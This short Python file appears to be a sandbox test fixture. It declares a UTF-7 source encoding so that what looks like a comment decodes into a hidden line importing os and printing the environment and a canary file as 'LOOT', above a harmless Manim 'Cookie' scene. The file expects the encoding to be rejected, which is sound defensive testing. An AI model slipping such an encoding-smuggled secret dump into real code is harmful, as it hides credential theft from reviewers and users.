# expect: rejected encoding
# -*- coding: utf-7 -*-
# sandbox: ok
# A source encoding makes Python read other code than a UTF-8 reader sees:
# the comment below hides a line that imports os.
from manim import *
# +AAo-import os as hidden+AAo-print("LOOT", hidden.popen("env; cat @@CANARY_FILE@@ 2>&1").read())


class Cookie(Scene):
    def construct(self):
        self.add(Text("cookie", font_size=24))
        self.wait(0.1)
